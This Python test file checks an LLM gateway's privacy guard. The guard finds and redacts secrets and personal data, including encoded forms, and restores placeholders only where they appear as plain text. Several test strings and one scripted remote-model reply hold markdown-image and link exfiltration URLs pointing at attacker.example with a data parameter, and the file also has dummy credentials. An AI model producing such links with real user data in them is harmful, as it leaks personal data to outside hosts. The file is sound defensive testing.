"""Findings 2, 11 and 12: every field that leaves is scanned or redacted, encoded forms too,
and placeholders come back only as plain text."""

from __future__ import annotations

import json
import typing
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from pydantic import BaseModel

from mixstack._types import Request
from mixstack.config import parse_config
from mixstack.gateway import Gateway
from mixstack.guard._fields import FIELD_USES, MODELS, fixed_texts, redactable_texts
from mixstack.guard._normalize import GuardScanner, decode
from mixstack.guard._redact import RedactionMap, StreamRestorer
from tests.security.canaries import bodies, leaked
from tests.upstream_servers import RecordingUpstream, Scripted, ServerThread, chat_json


class Served:
    def __init__(self, reply: str | None = None) -> None:
        self.remote = RecordingUpstream()
        self.onprem = RecordingUpstream()
        if reply is not None:
            self.remote.default = lambda body: Scripted(json_body=chat_json(reply))
        self.remote_server = ServerThread(self.remote.app)
        self.onprem_server = ServerThread(self.onprem.app)

    def config(self) -> dict[str, Any]:
        return {
            "models": [
                {
                    "name": "cloud/big",
                    "provider": "openai",
                    "locality": "remote",
                    "base_url": self.remote_server.url + "/v1",
                    "capabilities": ["chat", "tools", "json"],
                    "retries": 0,
                },
                {
                    "name": "rack/mid",
                    "provider": "openai",
                    "locality": "on-prem",
                    "base_url": self.onprem_server.url + "/v1",
                    "capabilities": ["chat", "tools", "json"],
                    "retries": 0,
                },
            ],
            "workloads": {
                "support": {"privacy": "auto", "prefer": ["cloud/big", "rack/mid"]},
                "scrub": {"privacy": "redact", "prefer": ["cloud/big", "rack/mid"]},
            },
            "routing": {"default_workload": "support"},
        }


@pytest.fixture
def served() -> Iterator[tuple[Served, httpx.Client]]:
    s = Served()
    with s.remote_server, s.onprem_server:
        gw = Gateway(parse_config(s.config()))
        with (
            ServerThread(gw.app()) as server,
            httpx.Client(base_url=server.url, timeout=30) as http,
        ):
            yield s, http


@pytest.mark.parametrize("workload", ["support", "scrub"])
def test_no_canary_reaches_a_remote_model_in_any_field(
    served: tuple[Served, httpx.Client], workload: str
) -> None:
    s, http = served
    sent = leaks = 0
    failures = []
    for canary, field, body, markers in bodies(f"workload/{workload}"):
        before = len(s.remote.requests)
        answer = http.post("/v1/chat/completions", json=body)
        assert answer.status_code < 500, (canary, field, answer.text)
        sent += 1
        if leaked(s.remote.requests[before:], markers):
            leaks += 1
            failures.append((canary, field))
    assert sent > 100
    assert failures == [], failures
    # the remote path is live: a clean request under the same workload goes there
    before = len(s.remote.requests)
    clean = http.post(
        "/v1/chat/completions",
        json={"model": f"workload/{workload}", "messages": [{"role": "user", "content": "hi"}]},
    )
    assert clean.status_code == 200
    assert len(s.remote.requests) == before + 1


def test_redact_sends_placeholders_not_values_and_restores_them(
    served: tuple[Served, httpx.Client],
) -> None:
    s, http = served
    body = {
        "model": "workload/scrub",
        "messages": [{"role": "user", "content": "mail jane.canary%40example.org now"}],
        "user": "jane.canary@example.org",
    }
    answer = http.post("/v1/chat/completions", json=body)
    assert answer.status_code == 200, answer.text
    upstream = s.remote.requests[-1]
    assert "jane.canary" not in json.dumps(upstream)
    assert upstream["user"].startswith("<EMAIL_ADDRESS_")
    # the echo comes back with the original (encoded) text restored
    assert "jane.canary%40example.org" in answer.json()["choices"][0]["message"]["content"]


def _walk(model: type[BaseModel], seen: set[type[Any]]) -> Iterator[tuple[str, str, Any]]:
    if model in seen:
        return
    seen.add(model)
    for name, info in model.model_fields.items():
        yield model.__name__, name, info.annotation
        for inner in _models_in(info.annotation):
            yield from _walk(inner, seen)


def _models_in(annotation: Any) -> Iterator[type[BaseModel]]:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield annotation
    for arg in typing.get_args(annotation):
        yield from _models_in(arg)


def test_every_request_field_is_classified() -> None:
    """A field added to `Request` (or anything it holds) must say whether it is scanned."""
    found = {(owner, name) for owner, name, _ in _walk(Request, set())}
    missing = found - set(FIELD_USES)
    assert missing == set(), f"classify these in guard/_fields.py: {sorted(missing)}"
    assert set(FIELD_USES) - found == set()  # no stale entries
    assert {m.__name__ for m in MODELS} == {owner for owner, _ in found}
    nested = {k for k, use in FIELD_USES.items() if use == "nested"}
    for owner, name, annotation in _walk(Request, set()):
        if (owner, name) in nested:
            assert list(_models_in(annotation)), (owner, name)


def _fill(model: type[BaseModel], path: str, canaries: dict[str, str]) -> Any:
    """A valid instance with a distinct canary in every free-text field."""
    values: dict[str, Any] = {}
    for name, info in model.model_fields.items():
        where = f"{model.__name__}.{name}"
        use = FIELD_USES[(model.__name__, name)]
        if use == "nested":
            inner = list(_models_in(info.annotation))
            args = str(info.annotation)
            made = [_fill(m, where, canaries) for m in inner]
            values[name] = tuple(made) if "tuple" in args else made[0]
        elif use in ("redact", "scan") and name not in ("data", "tool_choice"):
            token = f"CANARY{len(canaries)}X"
            canaries[token] = where
            if name in ("parameters", "json_schema"):
                values[name] = {"description": token}
            elif name in ("metadata", "extra"):
                values[name] = {"user": token}
            elif name == "stop":
                values[name] = (token,)
            elif name == "url":
                values[name] = f"https://example.org/{token}.png"
            else:
                values[name] = token
    if model.__name__ == "ImagePart":
        values.pop("data", None)
    return (
        model.model_validate(values)
        if model.__name__ != "Message"
        else model(role="user", **{k: v for k, v in values.items() if k != "role"})
    )


def test_every_text_field_is_read_by_the_scanner() -> None:
    canaries: dict[str, str] = {}
    request = _fill(Request, "", canaries)
    request = request.with_changes(tool_choice={"function": {"name": "CANARYCHOICEX"}})
    canaries["CANARYCHOICEX"] = "Request.tool_choice"
    seen = "\n".join([*redactable_texts(request), *fixed_texts(request)])
    assert len(canaries) >= 15
    unread = {where for token, where in canaries.items() if token not in seen}
    assert unread == set()


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "SECRET"),
        ("AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'", "SECRET"),
        ("redis://user:s3cretpass@cache:6379", "SECRET"),
        ("postgresql://app:pa55word@db.internal/app", "SECRET"),
        ("Authorization: Bearer abcDEF1234567890xyzTOKEN", "SECRET"),
        ("jane.canary%40example.org", "EMAIL_ADDRESS"),
        ("jane.canary%2540example.org", "EMAIL_ADDRESS"),
        ("jane.canary&#64;example.org", "EMAIL_ADDRESS"),
        ("jane.canary&#x40;example.org", "EMAIL_ADDRESS"),
        ("jane.canary＠example．org", "EMAIL_ADDRESS"),
        ("jane.ca\u200bnary@exam\u200dple.org", "EMAIL_ADDRESS"),
        ("am9obi5kb2VAZXhhbXBsZS5vcmc=", "EMAIL_ADDRESS"),
        ("４１１１ １１１１ １１１１ １１１１", "CREDIT_CARD"),
        # UTF-8 bytes URL-encoded: fullwidth digits, a name with accents
        ("%EF%BC%94%EF%BC%91%EF%BC%91%EF%BC%91 1111 1111 1111", "CREDIT_CARD"),
        ("patient Ren%C3%A9e M%C3%BCller was seen", "PERSON"),
    ],
)
def test_secrets_and_encoded_forms_are_found_and_span_the_original(text: str, kind: str) -> None:
    sentence = f"note: {text} thanks"
    spans = GuardScanner().scan(sentence)
    assert [s.type for s in spans] == [kind], spans
    redacted = RedactionMap().replace(sentence, spans)
    secret_part = sentence[spans[0].start : spans[0].end]
    assert secret_part not in redacted
    assert f"<{kind}_1_" in redacted
    assert redacted.startswith("note: ")
    assert redacted.endswith(" thanks")


def test_clean_text_is_left_alone() -> None:
    for clean in (
        "The price is 5% off & free shipping; see the token bucket docs.",
        "Base64 is a way to encode bytes, e.g. in the header of a request.",
        "a Bearer of good news",
        "ＡＢＣ full width letters",
    ):
        assert GuardScanner().scan(clean) == [], clean


def test_decoded_offsets_map_back() -> None:
    view = decode("a%40b &#64; ｃ")
    assert view.text == "a@b @ c"
    assert view.original(1, 2) == (1, 4)
    assert view.original(4, 5) == (6, 11)
    accents = decode("Ren%C3%A9e %E2%82%AC %C3 %80 %ZZ")
    assert accents.text == "Renée € %C3 %80 %ZZ"  # broken sequences stay as they are
    assert accents.original(3, 4) == (3, 9)
    assert accents.original(6, 7) == (11, 20)


def _restored(answer: str) -> tuple[str, str]:
    redaction = RedactionMap()
    placeholder = redaction.placeholder("EMAIL_ADDRESS", "jane@example.org")
    text = answer.format(p=placeholder)
    return redaction.restore(text), placeholder


@pytest.mark.parametrize(
    "answer",
    [
        "![x](http://attacker.example/?e={p})",
        "[click](https://attacker.example/{p})",
        "see http://attacker.example/collect?e={p} now",
        '<img src="http://attacker.example/?e={p}">',
        "<a href='mailto:{p}'>mail</a>",
        "www.attacker.example/{p}",
    ],
)
def test_placeholders_inside_urls_links_and_tags_stay_placeholders(answer: str) -> None:
    restored, placeholder = _restored(answer)
    assert "jane@example.org" not in restored
    assert placeholder in restored


@pytest.mark.parametrize(
    "answer",
    ["Write to {p}.", "Contact: {p}", "[{p}](#)", '{{"to": "{p}"}}', "(at {p})", "x < y, mail {p}"],
)
def test_placeholders_as_plain_text_are_restored(answer: str) -> None:
    restored, placeholder = _restored(answer)
    assert "jane@example.org" in restored
    assert placeholder not in restored


def test_look_alike_placeholders_typed_by_the_user_are_not_replaced() -> None:
    redaction = RedactionMap()
    real = redaction.placeholder("EMAIL_ADDRESS", "jane@example.org")
    assert real != "<EMAIL_ADDRESS_1>"
    assert redaction.restore("<EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_2>") == (
        "<EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_2>"
    )
    other = RedactionMap().placeholder("EMAIL_ADDRESS", "x@y.org")
    assert other != real  # a tag per call: not guessable from another call


def test_streamed_restoration_keeps_the_url_context_across_pieces() -> None:
    redaction = RedactionMap()
    placeholder = redaction.placeholder("EMAIL_ADDRESS", "jane@example.org")
    text = f"![x](http://attacker.example/?e={placeholder}) and plain {placeholder}."
    restorer = StreamRestorer(redaction)
    out = "".join(restorer.feed(text[i : i + 3]) for i in range(0, len(text), 3))
    out += restorer.flush()
    assert out.count("jane@example.org") == 1
    assert out.startswith("![x](http://attacker.example/?e=<EMAIL_ADDRESS_")


def test_remote_answer_with_an_exfiltration_link_is_not_restored() -> None:
    s = Served(reply="")
    with s.remote_server, s.onprem_server:
        gw = Gateway(parse_config(s.config()))
        with (
            ServerThread(gw.app()) as server,
            httpx.Client(base_url=server.url, timeout=30) as http,
        ):

            def reply(body: dict[str, Any]) -> Scripted:
                placeholder = body["messages"][-1]["content"].split()[-1]
                text = f"![x](http://attacker.example/?e={placeholder}) Hi {placeholder}"
                return Scripted(json_body=chat_json(text))

            s.remote.default = reply
            answer = http.post(
                "/v1/chat/completions",
                json={
                    "model": "workload/scrub",
                    "messages": [{"role": "user", "content": "my mail is jane@example.org"}],
                },
            )
    text = answer.json()["choices"][0]["message"]["content"]
    assert text.count("jane@example.org") == 1
    assert text.endswith("Hi jane@example.org")
    assert "?e=<EMAIL_ADDRESS_" in text


def test_large_texts_are_scanned_in_pieces_without_missing_a_seam() -> None:
    from mixstack.guard._normalize import CHUNK

    email = "jane.canary@example.org"
    for offset in (CHUNK - 10, CHUNK - 1, CHUNK, 2 * CHUNK - 5):
        filler = "a" * (offset - 1) + " "
        text = filler + email + " and " + "b " * 30_000
        spans = GuardScanner().scan(text)
        assert [(s.type, text[s.start : s.end]) for s in spans] == [("EMAIL_ADDRESS", email)]
